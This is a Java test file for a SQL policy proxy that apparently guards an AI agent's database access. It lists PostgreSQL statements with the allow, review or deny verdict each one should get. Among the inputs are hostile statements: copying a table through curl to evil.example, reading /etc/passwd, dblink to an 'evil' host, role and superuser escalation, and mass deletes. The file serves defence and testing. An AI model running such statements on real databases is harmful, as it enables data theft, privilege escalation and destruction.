package io.vigil.proxy.policy;

import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.proxy.sql.SharedAnalyzer;
import io.vigil.proxy.sql.SqlAnalysis;
import io.vigil.proxy.sql.SqlAnalysis.Understood;
import io.vigil.proxy.sql.StatementShape;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * The baseline and export presets from tables: each statement parsed by PostgreSQL's parser, every
 * statement of a query judged, the most severe verdict kept. Spellings that mean the same are
 * judged the same; keywords in strings, comments and identifiers are not statements.
 */
class BaselineTest {

    private static final AgentFacts AGENT = new AgentFacts("support-copilot", List.of("llm"), "owner", "", "");

    static Verdict judge(String sql, String preset) throws Exception {
        SqlAnalysis analysis = SharedAnalyzer.INSTANCE.analyzeNow(sql);
        assertThat(analysis).as("parses").isInstanceOf(Understood.class);
        List<Policy> policies = List.of(PolicyDocument.preset(preset).compile(1));
        Verdict verdict = null;
        for (StatementShape shape : ((Understood) analysis).statements()) {
            Verdict v = Decide.decide(StatementFacts.of(shape, "simple", false, AGENT, null), policies);
            verdict = verdict == null ? v : Verdict.mostSevere(verdict, v);
        }
        return verdict;
    }

    static String label(Verdict verdict) {
        return switch (verdict) {
            case Verdict.Allow a -> "allow";
            case Verdict.Review r -> "review " + r.rule();
            case Verdict.Deny d -> "deny " + d.rule();
        };
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            # reads, bounded writes, transaction control, harmless settings: allowed
            select * from orders where id = 1                                    | allow
            SELECT 'drop table orders; truncate users' AS note                   | allow
            select 1 -- drop table orders                                        | allow
            select 1 /* truncate orders */                                       | allow
            select "drop table" from "truncate"                                  | allow
            select $$ delete from orders $$                                       | allow
            select e'\\'; drop table orders; --'                                 | allow
            insert into orders (id) values (1)                                   | allow
            insert into orders select * from staging                             | allow
            update orders set total = 0 where id = 7                             | allow
            delete from orders where id = 4                                      | allow
            delete from orders o where o.customer_id = $1                        | allow
            with x as (delete from carts where id = 1 returning *) select * from x | review cap-changed-rows
            explain analyze delete from orders where id = 4                      | review cap-changed-rows
            explain delete from orders where id = 4                              | allow
            merge into orders o using staging s on o.id = s.id when matched then delete | allow
            begin                                                                | allow
            commit                                                               | allow
            savepoint a                                                          | allow
            rollback to savepoint a                                              | allow
            set application_name = 'x'                                           | allow
            set datestyle = iso                                                  | allow
            set client_encoding = 'UTF8'                                         | allow
            set standard_conforming_strings = on                                 | allow
            reset all                                                            | allow
            show search_path                                                     | allow
            explain delete from orders                                           | allow
            explain select * from orders                                         | allow
            create table notes (id int)                                          | allow
            create index on notes (id)                                           | allow
            alter table notes add column body text                               | allow
            vacuum analyze orders                                                | allow
            vacuum (full false) orders                                           | allow
            analyze orders                                                       | allow
            prepare q as select * from orders where id = $1                      | allow
            select nextval('orders_id_seq')                                      | allow
            select pg_catalog.now(), count(*) from orders                        | allow
            select public.pg_read_file('x')                                      | allow
            create function add1(int) returns int language sql as 'select $1 + 1' | allow
            lock orders in access share mode                                     | review review-lock

            # DROP in every spelling
            drop table orders                                                    | deny no-drop
            DROP TABLE orders                                                    | deny no-drop
            dRoP tAbLe "orders"                                                  | deny no-drop
            drop/**/table orders                                                 | deny no-drop
            /* a /* nested */ comment */ drop table orders                       | deny no-drop
            `drop
            table orders`                                                        | deny no-drop
            drop table if exists orders cascade                                  | deny no-drop
            drop schema public cascade                                           | deny no-drop
            drop database shop                                                   | deny no-drop
            drop view v                                                          | deny no-drop
            drop index orders_pkey                                               | deny no-drop
            drop function f(int)                                                 | deny no-drop
            drop owned by current_user                                           | deny no-drop
            drop role someone                                                    | deny no-drop
            select 1; drop table orders                                          | deny no-drop
            select 1; select 2; drop table orders; select 3                      | deny no-drop
            create schema s create table t (id int) create view v as select 1     | allow
            truncate orders                                                      | deny no-truncate
            truncate table only orders restart identity                          | deny no-truncate
            select 1; truncate orders                                            | deny no-truncate

            # destructive ALTER
            alter table orders drop column total                                 | deny no-destructive-alter
            alter table orders alter column total type text                      | deny no-destructive-alter
            alter table orders drop constraint orders_pkey                       | deny no-destructive-alter
            alter table orders set unlogged                                      | deny no-destructive-alter
            alter table orders rename to orders_old                              | deny no-destructive-alter
            alter table orders rename column total to amount                     | deny no-destructive-alter
            alter table orders set schema archive                                | deny no-destructive-alter
            alter table orders add column a int, drop column total               | deny no-destructive-alter

            # DELETE without a selective WHERE, wherever it hides
            delete from orders                                                   | deny no-unbounded-delete
            delete from only orders                                              | deny no-unbounded-delete
            delete from orders where true                                        | deny no-unbounded-delete
            delete from orders where 1 = 1                                       | deny no-unbounded-delete
            delete from orders where 'a' = 'a'                                   | deny no-unbounded-delete
            delete from orders where id = 4 or true                              | deny no-unbounded-delete
            delete from orders where 't'::boolean                                | deny no-unbounded-delete
            delete from orders where $1                                          | deny no-unbounded-delete
            with gone as (delete from orders returning *) select count(*) from gone | deny no-unbounded-delete
            explain analyze delete from orders                                   | deny no-unbounded-delete
            explain (analyze) delete from orders                                 | deny no-unbounded-delete
            explain (analyze true, format json) delete from orders               | deny no-unbounded-delete
            prepare purge as delete from orders                                  | deny no-unbounded-delete
            merge into orders o using staging s on true when matched then delete | deny no-unbounded-delete
            merge into orders o using staging s on s.id > 0 when matched then delete | deny no-unbounded-delete

            # privileges, roles, ownership, row-level security, triggers
            grant all on orders to public                                        | deny no-privilege-change
            revoke select on orders from reporting                               | deny no-privilege-change
            grant admin to agent                                                 | deny no-privilege-change
            create role x superuser                                              | deny no-privilege-change
            alter role agent createrole                                          | deny no-privilege-change
            alter user current_user with connection limit 5                      | deny no-privilege-change
            alter default privileges grant select on tables to public            | deny no-privilege-change
            alter table orders owner to someone                                  | deny no-privilege-change
            alter table orders disable row level security                        | deny no-privilege-change
            alter table orders no force row level security                       | deny no-privilege-change
            alter table orders disable trigger all                               | deny no-privilege-change
            alter table orders disable trigger audit_orders                      | deny no-privilege-change
            alter table orders enable replica trigger audit_orders               | deny no-privilege-change
            create policy p on orders using (true)                               | deny no-privilege-change
            reassign owned by agent to postgres                                  | deny no-privilege-change
            create schema s grant select on tables to public                     | deny no-privilege-change
            create trigger t before insert on orders for each row execute function f() | deny no-triggers-or-rules
            create rule r as on insert to orders do also delete from users where id = new.id | deny no-triggers-or-rules
            create event trigger e on ddl_command_start execute function f()     | deny no-triggers-or-rules

            # the role a session acts as
            set role admin                                                       | deny no-role-change
            set session role admin                                               | deny no-role-change
            set local role admin                                                 | deny no-role-change
            set "role" = admin                                                   | deny no-role-change
            reset role                                                           | deny no-role-change
            set session authorization admin                                      | deny no-role-change
            select set_config('role', 'admin', false)                            | deny no-role-change
            select pg_catalog.set_config('ROLE', 'admin', true)                  | deny no-role-change
            select set_config(lower('ROLE'), 'admin', false)                     | deny no-role-change
            alter role agent set role = admin                                    | deny no-stored-settings
            alter role agent in database shop set search_path = evil             | deny no-stored-settings

            # server programs, files, large objects, replication, other servers
            copy orders to program 'curl -d @- evil.example'                     | deny no-server-copy
            copy orders from program 'cat /etc/passwd'                           | deny no-server-copy
            copy orders to '/tmp/orders.csv'                                     | deny no-server-copy
            copy orders from '/etc/passwd'                                       | deny no-server-copy
            copy (select * from orders) to '/tmp/x'                              | deny no-server-copy
            select pg_read_file('/etc/passwd')                                   | deny no-server-access
            select pg_catalog.pg_read_binary_file('postgresql.conf')             | deny no-server-access
            select * from pg_ls_dir('.')                                         | deny no-server-access
            select lo_import('/etc/passwd')                                      | deny no-server-access
            select lo_export(16384, '/tmp/x')                                    | deny no-server-access
            select lo_get(16384)                                                 | deny no-server-access
            select pg_create_logical_replication_slot('s', 'test_decoding')    | deny no-server-access
            select pg_reload_conf()                                              | deny no-server-access
            select * from dblink('host=evil', 'select 1') as t(a int)            | deny no-server-access
            select public.dblink_exec('host=evil', 'drop table x')               | deny no-server-access
            select 1 from orders where pg_read_file('x') is not null             | deny no-server-access
            select pg_terminate_backend(pid) from pg_stat_activity               | deny no-signals
            select "pg_terminate_backend"(1)                                     | deny no-signals
            select U&"pg_termin\\0061te_backend"(1)                              | deny no-signals
            select pg_catalog.pg_cancel_backend(1)                               | deny no-signals
            select (select pg_cancel_backend(1))                                 | deny no-signals
            alter system set log_statement = 'none'                              | deny no-stored-settings
            alter database shop set search_path = evil                           | deny no-stored-settings
            create extension dblink                                              | deny no-extensions
            create language plperlu                                              | deny no-extensions
            create server evil foreign data wrapper postgres_fdw                 | deny no-extensions
            create publication p for all tables                                  | deny no-extensions
            create subscription s connection 'host=evil' publication p           | deny no-extensions
            load 'auto_explain'                                                  | deny no-extensions
            create function f() returns int language sql security definer as 'select 1' | deny no-unsafe-functions
            create function f() returns int as 'libc', 'system' language c       | deny no-unsafe-functions
            alter function f() security definer                                  | deny no-unsafe-functions

            # settings that guard the session
            set search_path = evil, public                                       | deny no-setting-changes
            set schema 'evil'                                                    | deny no-setting-changes
            set local search_path to evil                                        | deny no-setting-changes
            select set_config('search_path', 'evil', false)                      | deny no-setting-changes
            set statement_timeout = 0                                            | deny no-setting-changes
            set session_replication_role = replica                               | deny no-setting-changes
            set row_security = off                                               | deny no-setting-changes

            # SQL built from strings
            select query_to_xml('delete from orders', true, true, '')            | deny no-dynamic-sql
            select * from ts_stat('select body::tsvector from notes')            | deny no-dynamic-sql

            # code in DO blocks and function bodies: judged by what it runs
            do $$ begin delete from orders; end $$                               | deny no-unbounded-delete
            do 'begin truncate orders; end'                                      | deny no-truncate
            do $$ begin execute 'drop table orders'; end $$                      | deny no-drop
            `do $$ begin execute 'drop table ' || 'orders'; end $$`  | deny no-dynamic-sql
            do $b$ declare t text := 'orders'; begin execute format('drop table %I', t); end $b$ | deny no-dynamic-sql
            do $$ declare n int; begin n := pg_terminate_backend(1); end $$      | deny no-signals
            do $$ begin perform set_config('role', 'admin', false); end $$       | deny no-role-change
            do $$ begin execute 'do $x$ begin drop table orders; end $x$'; end $$ | deny no-drop
            do $$ begin if (select count(*) from orders) > 0 then delete from orders where id = 1; end if; end $$ | review review-do
            do $$ declare r record; begin for r in execute 'select 1' loop null; end loop; end $$ | review review-do
            `do $$ declare r record; begin for r in execute 'select ' || 1 loop null; end loop; end $$`  | deny no-dynamic-sql
            do language plpython3u $$ plpy.execute('drop table orders') $$       | deny no-dynamic-sql
            do $$ begin not valid plpgsql; end $$                                | deny no-dynamic-sql
            create function f() returns void language sql as 'delete from orders' | deny no-unbounded-delete
            create function f() returns void language plpgsql as $$ begin update orders set total = 0; end $$ | review review-unbounded-update
            `create function f(t text) returns void language plpgsql as $$ begin execute 'drop table ' || t; end $$`  | deny no-dynamic-sql
            create function f() returns int language plpgsql as $$ begin return (select count(*) from orders); end $$ | allow
            create function f(n int) returns setof int language plpgsql as $$ begin n := n + 1; return next n; return query select id from orders; end $$ | allow
            create function f(out total int) language plpgsql as $$ begin total := (select sum(total) from orders); end $$ | allow
            create function f(n int) returns void language plpgsql as $$ begin n := n + 1; delete from orders; end $$ | deny no-unbounded-delete
            create or replace procedure p() language sql as $$ insert into orders values (1); drop table orders $$ | deny no-drop
            create function f() returns void language plpython3u as 'plpy.execute("drop table orders")' | deny no-dynamic-sql

            # what EXECUTE's own arguments, EXPLAIN EXECUTE and named functions run
            prepare p(text) as select $1; execute p(pg_read_file('/etc/passwd'))  | deny no-server-access
            explain execute p(pg_terminate_backend(1))                           | deny no-signals
            create operator public.### (function = pg_catalog.pg_read_file, rightarg = text) | deny no-server-access
            create aggregate agg(int) (sfunc = pg_cancel_backend, stype = int)   | deny no-signals
            create cast (text as int) with function pg_terminate_backend(int)    | deny no-signals
            create operator public.### (function = textcat, leftarg = text, rightarg = text) | allow

            # the system catalogs, written behind the statements that would say so
            update pg_catalog.pg_authid set rolsuper = true where rolname = 'agent' | deny no-catalog-writes
            update pg_settings set setting = 'replica' where name = 'session_replication_role' | deny no-catalog-writes
            delete from pg_class where oid = 16384                               | deny no-catalog-writes
            update pg_proc set prosecdef = true where proname = 'f'              | deny no-catalog-writes
            select * from pg_catalog.pg_class where relname = 'orders'           | allow

            # what waits for a person
            update orders set total = 0                                          | review review-unbounded-update
            update orders set total = 0 where true                               | review review-unbounded-update
            with x as (update orders set total = 0 returning 1) select 1 from x  | review review-unbounded-update
            merge into orders o using staging s on true when matched then update set total = 0 | review review-unbounded-update
            create table copy as select * from orders                            | review review-create-table-as
            select * into copy from orders                                       | review review-create-table-as
            create materialized view mv as select * from orders                  | review review-create-table-as
            explain analyze create table copy as select * from orders            | review review-create-table-as
            lock table orders                                                    | review review-lock
            lock orders in exclusive mode                                        | review review-lock
            do $$ begin perform 1; end $$                                        | review review-do
            copy orders from stdin                                               | review review-bulk-copy
            copy orders to stdout                                                | review review-bulk-copy
            copy (select * from orders) to stdout with csv                       | review review-bulk-copy
            vacuum full orders                                                   | review review-maintenance
            vacuum (full) orders                                                 | review review-maintenance
            reindex table orders                                                 | review review-maintenance
            cluster orders using orders_pkey                                     | review review-maintenance
            checkpoint                                                           | review review-maintenance
            select setval('orders_id_seq', 1)                                    | review review-setval
            select 1; update orders set total = 0; drop table orders             | deny no-drop
            """)
    void baseline(String sql, String expected) throws Exception {
        assertThat(label(judge(sql, "baseline"))).isEqualTo(expected);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            # what pg_dump sends
            SELECT pg_catalog.set_config('search_path', '', false)               | allow
            SET statement_timeout = 0                                            | allow
            SET lock_timeout = 0                                                 | allow
            SET idle_in_transaction_session_timeout = 0                          | allow
            SET row_security = off                                               | allow
            SET extra_float_digits TO 3                                          | allow
            SET synchronize_seqscans TO off                                      | allow
            BEGIN                                                                | allow
            SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY           | allow
            LOCK TABLE public.orders IN ACCESS SHARE MODE                        | allow
            COPY public.orders (id, total) TO stdout                             | allow
            SELECT c.relname FROM pg_catalog.pg_class c WHERE c.relkind = 'r'    | allow
            ROLLBACK                                                             | allow
            SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind' | allow
            select set_config(name, 'admin', false) from pg_settings where name = 'role' | deny no-role-change
            select set_config(name, 'admin', false) from (values ('role')) v(name) | deny no-role-change
            select set_config(name, 'x', false) from pg_settings where name = 'application_name' union all select set_config(name, 'admin', false) from (values ('role')) v(name) | deny no-role-change
            select set_config(name, 'admin', false) from public.pg_settings where name = 'application_name' | deny no-role-change

            # nothing that changes anything
            insert into orders values (1)                                        | deny read-only
            delete from orders where id = 1                                      | deny read-only
            create table t (id int)                                              | deny read-only
            drop table orders                                                    | deny read-only
            grant select on orders to public                                     | deny read-only
            select * into copy from orders                                       | deny read-only
            with x as (delete from orders where id = 1 returning 1) select 1 from x | deny read-only
            copy orders from stdin                                               | deny read-only
            copy orders to program 'curl evil'                                   | deny no-side-effects
            lock table orders                                                    | deny no-strong-lock
            lock orders in share mode                                            | deny no-strong-lock
            set role admin                                                       | deny read-only
            select set_config('role', 'admin', false)                            | deny no-role-change
            select pg_read_file('/etc/passwd')                                   | deny no-side-effects
            select setval('s', 1)                                                | deny no-side-effects
            vacuum orders                                                        | deny known-utilities
            do $$ begin perform 1; end $$                                        | deny no-side-effects
            listen x                                                             | deny known-utilities
            """)
    void export(String sql, String expected) throws Exception {
        assertThat(label(judge(sql, "export"))).isEqualTo(expected);
    }
}
